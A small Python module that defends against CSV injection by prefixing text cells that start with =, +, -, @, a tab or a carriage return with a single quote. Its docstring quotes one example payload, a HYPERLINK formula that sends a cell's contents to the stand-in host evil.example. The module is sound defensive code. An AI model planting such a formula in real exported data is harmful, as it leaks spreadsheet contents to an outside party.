"""Neutralise CSV cells a spreadsheet would run as formulas (CSV injection).

Evidence sentences, titles and publishers come from documents anyone can write; a cell such as
``=HYPERLINK("http://evil.example?"&A1, "click")`` in a CSV opened in Excel or LibreOffice is a
live formula.  Following OWASP's CSV Injection guidance, a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text and do not evaluate.  Numbers are written as numbers (a Goldstein score of -10
stays ``-10.0``).  Pipelines that need the exact text pass ``--raw-csv``.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_START", "neutralise"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
